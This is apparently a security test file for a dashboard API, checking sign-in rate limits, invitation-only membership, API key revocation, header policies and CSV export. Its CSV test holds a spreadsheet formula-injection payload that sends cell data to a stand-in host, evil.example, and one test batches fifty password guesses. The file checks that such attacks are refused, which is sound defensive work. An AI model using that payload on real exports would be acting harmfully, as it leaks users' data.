import { randomBytes } from "node:crypto";
import { createServer, type Server } from "node:net";
import { newIdAt, recomputeRollups } from "@hitrail/db";
import { factories } from "@hitrail/db/testing";
import { and, eq, schema } from "@hitrail/db/testing/sql";
import { createTRPCClient, httpLink } from "@trpc/client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AppRouter } from "../src/router/root.ts";
import { expectCode, type Harness, PASSWORD, startHarness } from "./harness.ts";

// Issue 18, the dashboard API's side, tried as an attacker would: over real HTTP, against real
// PostgreSQL and Redis.

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => {
  await h?.close();
});

const unique = () => randomBytes(4).toString("hex");

/** A tRPC client that keeps the session cookie its last answer set. */
function browser(base: string, init: { cookie?: string; headers?: Record<string, string> } = {}) {
  const state = { cookie: init.cookie ?? "", setCookie: [] as string[] };
  const client = createTRPCClient<AppRouter>({
    links: [
      httpLink({
        url: `${base}/trpc`,
        headers: () => ({ ...(state.cookie ? { cookie: state.cookie } : {}), ...init.headers }),
        fetch: async (url, req) => {
          const res = await fetch(url, req as RequestInit);
          state.setCookie = res.headers.getSetCookie();
          const session = state.setCookie.find((c) => c.startsWith("hitrail_session="));
          if (session) state.cookie = session.split(";")[0] ?? "";
          return res;
        },
      }),
    ],
  });
  return { client, state };
}

/** POSTs one batched request of `calls` to the api, as a script would. */
async function batch(
  base: string,
  calls: { path: string; input: unknown }[],
  headers: Record<string, string> = {},
) {
  const paths = calls.map((c) => c.path).join(",");
  const body = Object.fromEntries(calls.map((c, i) => [String(i), c.input]));
  const res = await fetch(`${base}/trpc/${paths}?batch=1`, {
    method: "POST",
    headers: { "content-type": "application/json", ...headers },
    body: JSON.stringify(body),
  });
  return { res, text: await res.text() };
}

describe("(2) sign-in limits", () => {
  it("refuses a batch of sign-ins outright: 50 guesses in one request yield no session", async () => {
    const user = await h.user();
    const guesses = Array.from({ length: 50 }, (_, i) => ({
      path: "auth.signIn",
      input: { email: user.email, password: i === 30 ? PASSWORD : `wrong guess ${i}` },
    }));
    const { res, text } = await batch(h.base, guesses);
    expect(res.status).toBe(400);
    expect(res.headers.getSetCookie().some((c) => c.startsWith("hitrail_session="))).toBe(false);
    expect(text).toContain("auth.signIn cannot be batched");
    // Mixed in with harmless calls, likewise.
    const mixed = await batch(h.base, [
      { path: "auth.signOut", input: {} },
      { path: "auth.signIn", input: { email: user.email, password: PASSWORD } },
    ]);
    expect(mixed.res.status).toBe(400);
    expect(mixed.res.headers.getSetCookie().some((c) => c.startsWith("hitrail_session="))).toBe(false);
    // Other procedures still batch.
    const reads = await fetch(
      `${h.base}/trpc/system.health,auth.session?batch=1&input=${encodeURIComponent("{}")}`,
    );
    expect(reads.status).toBe(200);
  });

  it("locks an account after 5 failed attempts, the right password included, and says when to retry", async () => {
    const user = await h.user();
    const { client } = browser(h.base, { headers: { "x-forwarded-for": "198.51.100.1" } });
    for (let i = 0; i < 5; i++) {
      await expectCode(
        client.auth.signIn.mutate({ email: user.email, password: `nope ${i} nope` }),
        "UNAUTHORIZED",
      );
    }
    const message = await expectCode(
      client.auth.signIn.mutate({ email: user.email, password: PASSWORD }),
      "TOO_MANY_REQUESTS",
      /^too many sign-in attempts; try again in \d+ s$/,
    );
    expect(Number(/in (\d+) s/.exec(message)?.[1])).toBeGreaterThan(800);
    // The same from another address: the limit is the account's.
    const other = browser(h.base, { headers: { "x-forwarded-for": "198.51.100.2" } });
    await expectCode(
      other.client.auth.signIn.mutate({ email: user.email, password: PASSWORD }),
      "TOO_MANY_REQUESTS",
    );
    // Raw: 429 with Retry-After and the seconds in data.details.
    const res = await fetch(`${h.base}/trpc/auth.signIn`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-forwarded-for": "198.51.100.3" },
      body: JSON.stringify({ email: user.email, password: PASSWORD }),
    });
    expect(res.status).toBe(429);
    expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(0);
    const body = (await res.json()) as { error: { data: { details: { retryAfterSeconds: number } } } };
    expect(body.error.data.details.retryAfterSeconds).toBe(Number(res.headers.get("retry-after")));
  });

  it("answers an unknown email exactly like a wrong password, limit included", async () => {
    const known = await h.user();
    const unknown = `nobody-${unique()}@example.com`;
    const answers = async (email: string, ip: string) => {
      const { client } = browser(h.base, { headers: { "x-forwarded-for": ip } });
      const out: string[] = [];
      for (let i = 0; i < 6; i++) {
        out.push(
          await expectCode(
            client.auth.signIn.mutate({ email, password: `bad password ${i}` }),
            i < 5 ? "UNAUTHORIZED" : "TOO_MANY_REQUESTS",
          ),
        );
      }
      return out.map((m) => m.replace(/\d+ s$/, "N s"));
    };
    expect(await answers(known.email, "198.51.100.10")).toEqual(await answers(unknown, "198.51.100.11"));
  });

  it("a successful sign-in clears the account's failures", async () => {
    const user = await h.user();
    const { client } = browser(h.base, { headers: { "x-forwarded-for": "198.51.100.20" } });
    for (let i = 0; i < 4; i++) {
      await expectCode(
        client.auth.signIn.mutate({ email: user.email, password: `nope ${i} nope` }),
        "UNAUTHORIZED",
      );
    }
    await client.auth.signIn.mutate({ email: user.email, password: PASSWORD });
    for (let i = 0; i < 4; i++) {
      await expectCode(
        client.auth.signIn.mutate({ email: user.email, password: `nope ${i} nope` }),
        "UNAUTHORIZED",
      );
    }
    await client.auth.signIn.mutate({ email: user.email, password: PASSWORD });
  });

  it("limits attempts per client address across accounts", async () => {
    const limited = await startHarness({
      signInLimits: { perAccount: 100, perAddress: 8, windowSeconds: 600 },
    });
    try {
      const from = (ip: string) => browser(limited.base, { headers: { "x-forwarded-for": ip } }).client;
      const attacker = from("203.0.113.7");
      for (let i = 0; i < 8; i++) {
        await expectCode(
          attacker.auth.signIn.mutate({
            email: `victim-${i}-${unique()}@example.com`,
            password: "password123!",
          }),
          "UNAUTHORIZED",
        );
      }
      const user = await limited.user();
      await expectCode(
        attacker.auth.signIn.mutate({ email: user.email, password: PASSWORD }),
        "TOO_MANY_REQUESTS",
      );
      await expectCode(
        attacker.auth.signUp.mutate({ email: `new-${unique()}@example.com`, password: PASSWORD }),
        "TOO_MANY_REQUESTS",
      );
      // Someone else is not held up by it.
      await from("203.0.113.8").auth.signIn.mutate({ email: user.email, password: PASSWORD });
    } finally {
      await limited.close();
    }
  });
});

/** An SMTP server that keeps what it is sent: enough of RFC 5321 for nodemailer. */
async function fakeSmtp(): Promise<{ server: Server; port: number; messages: string[] }> {
  const messages: string[] = [];
  const server = createServer((socket) => {
    let data = false;
    let buffer = "";
    let message = "";
    socket.write("220 fake ESMTP\r\n");
    socket.on("data", (chunk) => {
      buffer += chunk.toString("utf8");
      let nl = buffer.indexOf("\r\n");
      while (nl >= 0) {
        const line = buffer.slice(0, nl);
        buffer = buffer.slice(nl + 2);
        if (data) {
          if (line === ".") {
            data = false;
            messages.push(message);
            message = "";
            socket.write("250 queued\r\n");
          } else message += `${line}\n`;
        } else if (/^(EHLO|HELO)/i.test(line)) socket.write("250 fake\r\n");
        else if (/^DATA/i.test(line)) {
          data = true;
          socket.write("354 go on\r\n");
        } else if (/^QUIT/i.test(line)) {
          socket.end("221 bye\r\n");
        } else socket.write("250 ok\r\n");
        nl = buffer.indexOf("\r\n");
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  if (!address || typeof address === "string") throw new Error("no port");
  return { server, port: address.port, messages };
}

describe("(3) members by invitation", () => {
  it("has no way to attach an existing account directly", async () => {
    const res = await fetch(`${h.base}/trpc/members.add`, {
      method: "POST",
      headers: { "content-type": "application/json", cookie: h.a.users.owner.cookie },
      body: JSON.stringify({ workspaceId: h.a.workspace.id, email: h.b.users.owner.email, role: "admin" }),
    });
    expect(res.status).toBe(404);
    expect(
      (await h.client({ cookie: h.b.users.owner.cookie }).workspaces.list.query()).map((w) => w.id),
    ).toEqual([h.b.workspace.id]);
  });

  it("answers alike whether or not the invited email has an account, and joins only through the link", async () => {
    const admin = h.client({ cookie: h.a.users.admin.cookie });
    const wsId = h.a.workspace.id;
    // Someone registered the address before it was invited.
    const squatter = await h.user();
    const fresh = `fresh-${unique()}@example.com`;
    const shape = (r: Awaited<ReturnType<typeof admin.members.invite.mutate>>) => ({
      ...r,
      invitation: { ...r.invitation, id: "ID", email: "EMAIL", createdAt: "T", expiresAt: "T" },
      link: r.link?.replace(/[A-Za-z0-9_-]{40,}$/, "TOKEN"),
    });
    const toExisting = await admin.members.invite.mutate({
      workspaceId: wsId,
      email: squatter.email,
      role: "member",
    });
    const toNew = await admin.members.invite.mutate({ workspaceId: wsId, email: fresh, role: "member" });
    expect(shape(toExisting)).toEqual(shape(toNew));
    expect(toExisting).toMatchObject({
      emailed: false,
      link: expect.stringMatching(/^\/invite\/[A-Za-z0-9_-]{40,}$/),
    });
    // Being that address is not enough: no membership without the link.
    expect(
      (await h.client({ cookie: squatter.cookie }).workspaces.list.query()).map((w) => w.id),
    ).not.toContain(wsId);

    const token = toNew.link?.split("/").pop() ?? "";
    const anon = h.client();
    expect(await anon.invitations.get.query({ token })).toMatchObject({
      workspaceName: h.a.workspace.name,
      email: fresh,
      role: "member",
    });
    // Another signed-in account cannot take it.
    await expectCode(
      h.client({ cookie: squatter.cookie }).invitations.accept.mutate({ token }),
      "FORBIDDEN",
      /another email address/,
    );
    const pending = await admin.members.invitations.query({ workspaceId: wsId });
    expect(pending.map((i) => i.email)).toEqual(expect.arrayContaining([fresh, squatter.email]));
    expect(pending.find((i) => i.email === fresh)?.invitedByEmail).toBe(h.a.users.admin.email);
  });

  it("lets the invitee accept while signed in as that email, once", async () => {
    const owner = h.client({ cookie: h.a.users.owner.cookie });
    const wsId = h.a.workspace.id;
    const invitee = await h.user();
    const { link } = await owner.members.invite.mutate({
      workspaceId: wsId,
      email: invitee.email.toUpperCase(),
      role: "viewer",
    });
    const token = link?.split("/").pop() ?? "";
    const joined = await h.client({ cookie: invitee.cookie }).invitations.accept.mutate({ token });
    expect(joined).toMatchObject({ workspaceId: wsId, role: "viewer" });
    const members = await owner.members.list.query({ workspaceId: wsId });
    expect(members.find((m) => m.userId === invitee.id)?.role).toBe("viewer");
    await expectCode(
      h.client({ cookie: invitee.cookie }).invitations.accept.mutate({ token }),
      "NOT_FOUND",
      /already used/,
    );
    expect((await owner.members.invitations.query({ workspaceId: wsId })).map((i) => i.email)).not.toContain(
      invitee.email,
    );
    const audit = await owner.audit.list.query({ workspaceId: wsId, limit: 5 });
    expect(audit.items.map((i) => i.action)).toContain("member.join");
  });

  it("a revoked or re-sent invitation's old link stops working; nobody grants above their role", async () => {
    const admin = h.client({ cookie: h.a.users.admin.cookie });
    const wsId = h.a.workspace.id;
    const email = `twice-${unique()}@example.com`;
    const first = await admin.members.invite.mutate({ workspaceId: wsId, email, role: "viewer" });
    const second = await admin.members.invite.mutate({ workspaceId: wsId, email, role: "member" });
    await expectCode(
      h.client().invitations.get.query({ token: first.link?.split("/").pop() ?? "" }),
      "NOT_FOUND",
    );
    await admin.members.revokeInvitation.mutate({ workspaceId: wsId, invitationId: second.invitation.id });
    await expectCode(
      h.client().invitations.get.query({ token: second.link?.split("/").pop() ?? "" }),
      "NOT_FOUND",
    );
    await expectCode(admin.members.invite.mutate({ workspaceId: wsId, email, role: "owner" }), "FORBIDDEN");
    await expectCode(
      admin.members.invite.mutate({ workspaceId: wsId, email: h.a.users.viewer.email, role: "viewer" }),
      "CONFLICT",
      /already a member/,
    );
  });

  it("emails the link through SMTP when configured and then never shows it; signs up through it in invite mode", async () => {
    const smtp = await fakeSmtp();
    const mailed = await startHarness({
      signup: "invite",
      dashboardUrl: "https://app.example.test",
      mail: { smtpUrl: `smtp://127.0.0.1:${smtp.port}`, from: "Hitrail <hitrail@example.test>" },
    });
    try {
      const email = `hire-${unique()}@example.com`;
      const owner = mailed.client({ cookie: mailed.a.users.owner.cookie });
      const sent = await owner.members.invite.mutate({
        workspaceId: mailed.a.workspace.id,
        email,
        role: "member",
      });
      expect(sent).toMatchObject({ emailed: true, link: null });
      expect(smtp.messages).toHaveLength(1);
      const mail = smtp.messages[0] ?? "";
      expect(mail).toContain(`To: ${email}`);
      const link =
        /https:\/\/app\.example\.test\/invite\/[A-Za-z0-9_-]+/.exec(mail.replace(/=\n/g, ""))?.[0] ?? "";
      expect(link).not.toBe("");
      const token = link.split("/").pop() ?? "";

      // Open sign-up is closed in invite mode; the link's own sign-up is not.
      const { client, state } = browser(mailed.base);
      await expectCode(
        client.auth.signUp.mutate({ email, password: PASSWORD }),
        "FORBIDDEN",
        /by invitation/,
      );
      const { user, joined } = await client.invitations.signUp.mutate({
        token,
        password: PASSWORD,
        name: "New Hire",
      });
      expect(user.email).toBe(email);
      expect(joined).toMatchObject({ workspaceId: mailed.a.workspace.id, role: "member" });
      expect(state.cookie).toMatch(/^hitrail_session=/);
      expect((await client.auth.me.query()).workspaces.map((w) => w.id)).toEqual([mailed.a.workspace.id]);
      await expectCode(client.invitations.signUp.mutate({ token, password: PASSWORD }), "NOT_FOUND");
    } finally {
      await mailed.close();
      smtp.server.close();
    }
  });
});

describe("(3, 11) sign-up modes, workspace limits and reserved slugs", () => {
  it("first: the first account signs up openly, every later one needs an invitation", async () => {
    const first = await startHarness({ signup: "first" });
    try {
      // The harness seeds accounts: empty the server to start from scratch.
      await first.t.sql`truncate users cascade`;
      const a = browser(first.base);
      await a.client.auth.signUp.mutate({ email: `first-${unique()}@example.com`, password: PASSWORD });
      const b = browser(first.base);
      await expectCode(
        b.client.auth.signUp.mutate({ email: `second-${unique()}@example.com`, password: PASSWORD }),
        "FORBIDDEN",
        /by invitation/,
      );
    } finally {
      await first.close();
    }
  });

  it("refuses reserved slugs and more workspaces than an account may own", async () => {
    const limited = await startHarness({ maxWorkspacesPerAccount: 2 });
    try {
      const user = await limited.user();
      const c = limited.client({ cookie: user.cookie });
      for (const slug of ["www", "admin", "api", "app", "mail", "xn--80ak6aa92e", "ab--c"]) {
        await expectCode(
          c.workspaces.create.mutate({ name: "Mine", slug }),
          "BAD_REQUEST",
          /^slug: .*reserved/,
        );
      }
      await c.workspaces.create.mutate({ name: "One", slug: `one-${unique()}` });
      await c.workspaces.create.mutate({ name: "Two", slug: `two-${unique()}` });
      await expectCode(
        c.workspaces.create.mutate({ name: "Three", slug: `three-${unique()}` }),
        "FORBIDDEN",
        /at most 2 workspaces/,
      );
    } finally {
      await limited.close();
    }
  });
});

describe("(4) API keys act for their creator", () => {
  it("a removed admin's key no longer lists keys or creates anything", async () => {
    const wsId = h.a.workspace.id;
    const departing = await h.user({ workspaceId: wsId, role: "admin" });
    const { key, apiKey } = await h
      .client({ cookie: departing.cookie })
      .apiKeys.create.mutate({ workspaceId: wsId, name: "departing's", role: "admin" });
    const asKey = h.client({ key });
    await asKey.apiKeys.list.query({ workspaceId: wsId });
    // A key made with that key belongs to the same member.
    const child = await asKey.apiKeys.create.mutate({ workspaceId: wsId, name: "child", role: "member" });
    expect(child.apiKey.createdByUserId).toBe(departing.id);

    const owner = h.client({ cookie: h.a.users.owner.cookie });
    const listed = (await owner.apiKeys.list.query({ workspaceId: wsId })).find((k) => k.id === apiKey.id);
    expect(listed).toMatchObject({ createdByUserId: departing.id, createdByEmail: departing.email });
    expect(listed?.lastUsedAt).not.toBeNull();

    await owner.members.remove.mutate({ workspaceId: wsId, userId: departing.id });
    await expectCode(asKey.apiKeys.list.query({ workspaceId: wsId }), "UNAUTHORIZED");
    await expectCode(
      asKey.apiKeys.create.mutate({ workspaceId: wsId, name: "again", role: "admin" }),
      "UNAUTHORIZED",
    );
    await expectCode(h.client({ key: child.key }).offers.list.query({ workspaceId: wsId }), "UNAUTHORIZED");
    const after = await owner.apiKeys.list.query({ workspaceId: wsId });
    expect(after.find((k) => k.id === apiKey.id)?.revokedAt).not.toBeNull();
    expect(after.find((k) => k.id === child.apiKey.id)?.revokedAt).not.toBeNull();
  });

  it("lowering a member's role caps their keys to it", async () => {
    const wsId = h.a.workspace.id;
    const lowered = await h.user({ workspaceId: wsId, role: "admin" });
    const { key, apiKey } = await h
      .client({ cookie: lowered.cookie })
      .apiKeys.create.mutate({ workspaceId: wsId, name: "strong", role: "admin" });
    const owner = h.client({ cookie: h.a.users.owner.cookie });
    await owner.members.setRole.mutate({ workspaceId: wsId, userId: lowered.id, role: "viewer" });
    const asKey = h.client({ key });
    await expectCode(asKey.apiKeys.list.query({ workspaceId: wsId }), "FORBIDDEN");
    await expectCode(
      asKey.offers.create.mutate({ workspaceId: wsId, name: "x", url: "https://o.example/" }),
      "FORBIDDEN",
    );
    await asKey.offers.list.query({ workspaceId: wsId });
    const listed = (await owner.apiKeys.list.query({ workspaceId: wsId })).find((k) => k.id === apiKey.id);
    expect(listed?.role).toBe("viewer");
  });

  it("a key whose creator left before this check existed is refused too", async () => {
    const wsId = h.a.workspace.id;
    const gone = await h.user({ workspaceId: wsId, role: "admin" });
    const { key } = await h
      .client({ cookie: gone.cookie })
      .apiKeys.create.mutate({ workspaceId: wsId, name: "old", role: "admin" });
    // As an older version removed members: the membership row only.
    await h.t.db
      .delete(schema.memberships)
      .where(and(eq(schema.memberships.workspaceId, wsId), eq(schema.memberships.userId, gone.id)));
    await expectCode(h.client({ key }).apiKeys.list.query({ workspaceId: wsId }), "UNAUTHORIZED");
  });
});

describe("(5) errors", () => {
  it("refuses a NUL in a name with a 400 naming the field, and never returns a stack", async () => {
    const res = await fetch(`${h.base}/trpc/auth.signUp`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-forwarded-for": "192.0.2.50" },
      body: JSON.stringify({
        email: `nul-${unique()}@example.com`,
        password: PASSWORD,
        name: "Ann\u0000Lee",
      }),
    });
    const text = await res.text();
    expect(res.status).toBe(400);
    expect(text).toContain("name: must not contain control characters");
    expect(text).not.toMatch(/insert|argon2|params|stack/i);
    const created = await h.client({ cookie: h.a.users.owner.cookie }).offers.create.mutate({
      workspaceId: h.a.workspace.id,
      name: "ok",
      url: "https://o.example/",
    });
    await expectCode(
      h.client({ cookie: h.a.users.owner.cookie }).offers.update.mutate({
        workspaceId: h.a.workspace.id,
        offerId: created.id,
        name: "bad\u0000name",
      }),
      "BAD_REQUEST",
      /^name: /,
    );
  });
});

describe("(8) report CSV export", () => {
  it("neutralises a tracking field that is a formula, and keeps numbers numeric", async () => {
    const { workspace } = await factories.workspace(h.t.db);
    const kit = await factories.campaign(h.t.db, workspace.id);
    const viewer = await h.user({ workspaceId: workspace.id, role: "viewer" });
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const at = Date.now() - 3_600_000;
    const hit = (zone: string, cost: string) => ({
      id: newIdAt(at),
      workspaceId: workspace.id,
      visitorId: newIdAt(at),
      funnelId: kit.funnelId,
      nodeId: kit.nodes.lander,
      pageId: kit.landerId,
      pageKind: "lander" as const,
      trafficSourceId: kit.trafficSourceId,
      cost,
      trackingFields: { zone },
      createdAt: new Date(at),
    });
    await h.t.db
      .insert(schema.hits)
      .values([hit(evil, "1.5"), hit("+SUM(1,2)", "0.25"), hit("-2+3", "0"), hit("@cmd", "0")]);
    // Visits by tracking field are read from the rollups: roll the hits up as the worker would.
    await recomputeRollups(h.t.db, {
      workspaceId: workspace.id,
      from: new Date(at - 3_600_000),
      to: new Date(),
    });
    const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
    const { csv } = await h.client({ cookie: viewer.cookie }).reports.csv.query({
      workspaceId: workspace.id,
      from: day(at - 86_400_000),
      to: day(Date.now()),
      groupBy: ["trackingField"],
      trackingField: "zone",
    });
    const cells = csv.split("\r\n").flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    const bare = cells.map((c) => c.replace(/^"|"$/g, ""));
    expect(bare.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(csv).toContain(`"'+SUM(1,2)"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"'@cmd"`);
    // Cost stays a plain number.
    expect(csv).toMatch(/,1\.5,/);
  });
});

describe("(11) on-demand TLS asks", () => {
  it("approves verified custom domains and hosts of existing workspaces only", async () => {
    const ask = async (domain: string) =>
      (await fetch(`${h.base}/internal/tls/ask?domain=${encodeURIComponent(domain)}`)).status;
    const verified = `v-${unique()}.example.org`;
    const unverified = `u-${unique()}.example.org`;
    await h.t.db.insert(schema.trackingDomains).values([
      {
        workspaceId: h.a.workspace.id,
        host: verified,
        kind: "custom",
        verificationToken: "t1",
        verifiedAt: new Date(),
      },
      { workspaceId: h.a.workspace.id, host: unverified, kind: "custom", verificationToken: "t2" },
    ]);
    expect(await ask(h.a.host)).toBe(200);
    expect(await ask(verified)).toBe(200);
    expect(await ask(unverified)).toBe(404);
    expect(await ask(`nosuch-${unique()}.test.localhost`)).toBe(404);
    expect(await ask(`x.${h.a.host}`)).toBe(404);
    expect(await ask("test.localhost")).toBe(404);
    expect(await ask("")).toBe(404);
  });

  it("limits asks per requester", async () => {
    const limited = await startHarness({ tlsAskPerMinute: 5 });
    try {
      const ask = (ip: string) =>
        fetch(`${limited.base}/internal/tls/ask?domain=${limited.a.host}`, {
          headers: { "x-forwarded-for": ip },
        });
      for (let i = 0; i < 5; i++) expect((await ask("192.0.2.1")).status).toBe(200);
      const refused = await ask("192.0.2.1");
      expect(refused.status).toBe(429);
      expect(refused.headers.get("retry-after")).toBe("60");
      expect((await ask("192.0.2.2")).status).toBe(200);
    } finally {
      await limited.close();
    }
  });
});

describe("(14) headers and JSON-only mutations", () => {
  it("sends nosniff, a CSP that forbids framing and a referrer policy", async () => {
    for (const url of [`${h.base}/trpc/system.health`, `${h.base}/healthz`, `${h.base}/nope`]) {
      const res = await fetch(url);
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
      expect(res.headers.get("referrer-policy")).toBe("no-referrer");
    }
  });

  it("refuses a sign-out posted as a form, and keeps the session", async () => {
    const user = await h.user();
    for (const body of [new FormData(), new URLSearchParams({ a: "1" })]) {
      const res = await fetch(`${h.base}/trpc/auth.signOut`, {
        method: "POST",
        headers: { cookie: user.cookie },
        body,
      });
      expect(res.status).toBe(415);
      expect(res.headers.getSetCookie().join()).not.toContain("hitrail_session=;");
    }
    const plain = await fetch(`${h.base}/trpc/auth.signOut`, {
      method: "POST",
      headers: { cookie: user.cookie, "content-type": "text/plain" },
      body: "{}",
    });
    expect(plain.status).toBe(415);
    expect((await h.client({ cookie: user.cookie }).auth.me.query()).user?.id).toBe(user.id);
    // The tRPC client's JSON sign-out works.
    await h.client({ cookie: user.cookie }).auth.signOut.mutate();
    await expectCode(h.client({ cookie: user.cookie }).auth.me.query(), "UNAUTHORIZED");
  });
});
